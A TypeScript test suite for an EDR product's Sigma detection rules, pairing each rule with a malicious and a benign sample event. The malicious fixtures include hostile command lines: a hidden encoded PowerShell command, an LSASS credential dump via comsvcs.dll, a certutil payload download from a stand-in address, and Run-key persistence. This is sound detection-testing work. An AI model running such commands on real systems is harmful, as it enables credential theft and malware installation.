// Vigil's own Sigma rules (rules/sigma): each loads, fires on the EDR event it is written for, and
// stays quiet on a look-alike that is benign.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { BUILTIN_SIGMA_RULES, compileRulePaths } from '../../../src/detect/index.ts';
import { SigmaEngine } from '../../../src/detect/sigma/index.ts';

const files = compileRulePaths([BUILTIN_SIGMA_RULES]);
const rules = files.flatMap((file) => file.rules);
const engine = new SigmaEngine(rules);

const launch = (image: string, cmdLine: string, parent = 'C:\\Windows\\explorer.exe') => ({
  type_id: 8001, operation: 1, device_name: 'WIN-1',
  event_actor: { file: { path: parent } },
  process: { cmd_line: cmdLine, file: { path: image } },
});
const connect = (image: string, externalIp: string) => ({
  type_id: 8007, device_name: 'WIN-1', device_ip: '10.1.1.1', external_ip: externalIp, external_port: 443, traffic_direction: 2, event_actor: { file: { path: image } },
});

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;

/** Per rule title: an event it must match and a similar one it must not. */
const CASES: Record<string, [Record<string, unknown>, Record<string, unknown>]> = {
  'PowerShell Runs an Encoded Command': [
    launch(POWERSHELL, 'powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'),
    launch(POWERSHELL, 'powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\encode-report.ps1'),
  ],
  'LSASS Memory Dumped with ProcDump or Comsvcs': [
    launch(`${SYSTEM32}\\rundll32.exe`, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full'),
    launch('C:\\Tools\\procdump64.exe', 'procdump64.exe -ma w3wp.exe C:\\dumps\\w3wp.dmp'),
  ],
  'Certutil Downloads a File': [
    launch(`${SYSTEM32}\\certutil.exe`, 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe'),
    launch(`${SYSTEM32}\\certutil.exe`, 'certutil.exe -hashfile C:\\Users\\Public\\a.exe SHA256'),
  ],
  'Rundll32 Started Without Arguments': [
    launch(`${SYSTEM32}\\rundll32.exe`, '"C:\\Windows\\System32\\rundll32.exe"'),
    launch(`${SYSTEM32}\\rundll32.exe`, 'rundll32.exe shell32.dll,Control_RunDLL'),
  ],
  'Office Application Starts a Shell or Script Host': [
    launch(`${SYSTEM32}\\cmd.exe`, 'cmd.exe /c start calc', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'),
    launch('C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', 'EXCEL.EXE /dde', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'),
  ],
  'System Binary Proxy Connects to an Outside Address': [
    connect(`${SYSTEM32}\\mshta.exe`, '203.0.113.50'),
    connect(`${SYSTEM32}\\mshta.exe`, '10.20.30.40'),
  ],
  'Whoami Lists Privileges or Groups': [
    launch(`${SYSTEM32}\\whoami.exe`, 'whoami /priv'),
    launch(`${SYSTEM32}\\whoami.exe`, 'whoami'),
  ],
  'Program or Script Written to a Startup Folder': [
    { type_id: 8003, operation: 1, file: { path: 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.vbs' } },
    { type_id: 8003, operation: 1, file: { path: 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\desktop.ini' } },
  ],
  'Run Key Value Set': [
    { type_id: 8006, operation: 1, reg_value: { path: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', data: 'C:\\u.exe' } },
    { type_id: 8006, operation: 1, reg_value: { path: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\x', data: 1 } },
  ],
};

test('every built-in rule loads, with its own id, a level and ATT&CK tags', () => {
  assert.deepEqual(files.flatMap((file) => file.errors.map((error) => error.message)), []);
  assert.deepEqual(rules.map((rule) => rule.title).sort(), Object.keys(CASES).sort());
  assert.equal(new Set(rules.map((rule) => rule.id)).size, rules.length);
  for (const rule of rules) {
    assert.ok(rule.level, `${rule.title} has a level`);
    assert.ok(rule.tags.some((tag) => /^attack\.t\d{4}/.test(tag)), `${rule.title} names a technique`);
  }
});

test('each built-in rule fires on its EDR event and not on the benign look-alike', () => {
  for (const [title, [malicious, benign]] of Object.entries(CASES)) {
    assert.deepEqual(engine.match(malicious).map((rule) => rule.title), [title], `${title}: malicious case`);
    assert.deepEqual(engine.match(benign).map((rule) => rule.title), [], `${title}: benign case`);
  }
});
